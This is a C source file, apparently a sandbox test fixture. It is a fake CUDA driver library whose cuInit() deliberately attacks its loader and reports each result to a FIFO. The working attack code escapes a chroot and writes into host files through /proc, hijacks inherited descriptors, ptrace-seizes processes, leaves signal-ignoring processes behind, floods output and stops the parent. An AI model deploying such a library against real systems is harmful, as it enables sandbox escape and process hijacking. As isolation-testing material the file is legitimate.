// SPDX-License-Identifier: MIT OR Apache-2.0
/* A libcuda.so.1 that attacks whoever loads it (standin: not CUDA). Each attack says `ATTACK RESULT` into the FIFO
 * /told; the result is `none` where it was of no use.
 *
 *     host      leave the root by the old chroot trick, or through /proc/PID/root, and write into the host's file whose
 *               path is in /etc/victim
 *     fds       write through every descriptor that is not its own
 *     ptrace    trace every process that /proc shows, and the parent
 *     signal    stop the parent and everyone
 *     stay      leave a process behind that holds every descriptor
 *     print     megabytes on stdout and stderr
 *
 * The text of /etc/hostile, `sleep` or `die`, says what it does in the end; otherwise it returns 0. With `careless` it
 * leaves alone what could end its caller or the tests.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

static int told = -1;

static void say(const char *attack, const char *result)
{
    dprintf(told, "%s %s\n", attack, result);
}

static void word_of(const char *path, char *word, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = fd < 0 ? 0 : read(fd, word, size - 1);

    if (fd >= 0)
        close(fd);
    word[length > 0 ? length : 0] = '\0';
    word[strcspn(word, "\n")] = '\0';
}

static int scribble(const char *path)
{
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    int done = fd >= 0 && write(fd, "owned", 5) == 5;

    if (fd >= 0)
        close(fd);
    return done;
}

static void attack_host(const char *victim)
{
    char path[1024];
    const char *result = "none";
    DIR *proc = opendir("/proc");
    struct dirent *entry;

    while (proc != NULL && (entry = readdir(proc)) != NULL) {
        snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, victim);
        if (atoi(entry->d_name) > 0 && scribble(path))
            result = "through-proc";
    }
    if (proc != NULL)
        closedir(proc);
    if (scribble(victim))
        result = "in-sight";
    int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    int back = root;
    if (chroot("/tmp") == 0 && fchdir(root) == 0) {
        for (int i = 0; i < 64; i++)
            if (chdir("..") != 0)
                break;
        if (chroot(".") == 0 && scribble(victim))
            result = "out-of-chroot";
    }
    close(back);
    say("host", result);
}

static void attack_fds(void)
{
    const char *result = "none";

    for (int fd = 4; fd < 4096; fd++)
        if (fd != told && fcntl(fd, F_GETFD) >= 0)
            result = write(fd, "owned", 5) == 5 ? "written" : "held";
    say("fds", result);
}

static void attack_processes(void)
{
    const char *result = ptrace(PTRACE_SEIZE, getppid(), NULL, NULL) == 0 ? "parent" : "none";
    DIR *proc = opendir("/proc");
    struct dirent *entry;

    while (proc != NULL && (entry = readdir(proc)) != NULL) {
        int pid = atoi(entry->d_name);
        if (pid > 0 && pid != getpid() && ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0)
            result = "seized";
    }
    if (proc != NULL)
        closedir(proc);
    say("ptrace", result);
}

static void stay(void)
{
    for (int i = 0; i < 8; i++)
        if (fork() == 0) {
            setsid();
            for (int signal_number = 1; signal_number < 32; signal_number++)
                signal(signal_number, SIG_IGN);
            /* The reader of /told must see an end. */
            close(told);
            if (fork() == 0)
                fork();
            for (;;)
                pause();
        }
    say("stay", "tried");
}

static void print(void)
{
    static char block[4096];

    memset(block, '!', sizeof block);
    for (int i = 0; i < 2048; i++)
        if (write(1, block, sizeof block) < 0 || write(2, block, sizeof block) < 0)
            break;
    say("print", "tried");
}

int cuInit(unsigned flags)
{
    char word[32], victim[256];

    (void)flags;
    told = open("/told", O_WRONLY | O_NONBLOCK | O_CLOEXEC);
    word_of("/etc/hostile", word, sizeof word);
    word_of("/etc/victim", victim, sizeof victim);
    /* What a careless caller hands on are the descriptors of whoever runs the tests: pipes whose end kills the writer
     * (SIGPIPE), or that others read. */
    if (strcmp(word, "careless") != 0)
        attack_fds();
    attack_processes();
    stay();
    print();
    attack_host(victim);
    /* Last: it may well end those that were left behind, and in a careless caller the caller. */
    if (strcmp(word, "careless") != 0)
        say("signal", kill(getppid(), SIGSTOP) == 0 && getppid() != 1 ? "parent" : "none");
    say("end", "tried");
    close(told);
    if (strcmp(word, "sleep") == 0)
        for (;;)
            pause();
    if (strcmp(word, "die") == 0)
        abort();
    return 0;
}

int cuDeviceGetCount(int *count)
{
    *count = 1;
    return 0;
}

int cuDriverGetVersion(int *version)
{
    *version = 13000;
    return 0;
}
